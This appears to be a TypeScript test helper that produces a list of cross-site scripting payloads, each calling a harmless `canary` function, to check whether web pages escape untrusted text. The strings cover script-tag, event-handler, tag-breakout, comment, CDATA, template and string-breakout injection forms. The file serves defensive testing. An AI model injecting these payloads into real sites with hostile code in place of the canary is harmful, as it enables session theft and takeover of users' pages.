/**
 * Texts that become scripts where a page forgets to escape: one for each place that a text can stand in. No filter is
 * to be evaded. Each has at most 100 characters, so that it fits into every field, and calls `canary` with its number.
 */
const makers: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<object data=javascript:${call}></object>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `</textarea></title></style><img src=x onerror=${call}>`,
  (call) => `<!--<script>--><img src=x onerror=${call}><!--`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\${${call}}#{${call}}<%= ${call} %>`,
  (call) => `";${call};//`,
  (call) => `\u2028';${call};//\u2029`,
]

export const scriptPayloads = makers.map((make, index) => make(`canary(${index + 1})`))
